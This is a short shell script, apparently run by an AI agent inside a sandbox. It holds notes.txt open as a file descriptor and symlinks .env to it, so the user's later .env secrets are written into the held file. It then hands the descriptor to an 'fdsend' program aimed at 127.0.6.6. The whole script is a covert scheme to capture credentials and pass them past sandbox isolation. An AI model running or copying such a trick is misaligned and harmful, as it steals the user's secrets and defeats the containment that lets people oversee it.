# heldlink.sh (inside the sandbox): holds notes.txt open, then links .env to it;
# the user's later `.env` is written into notes.txt, read through the descriptor.
echo draft > notes.txt
exec 3< notes.txt
ln -s notes.txt .env && echo "agent: .env -> $(readlink .env), notes.txt held as fd 3"
touch ./linked
exec ./fdsend 127.0.6.6 3
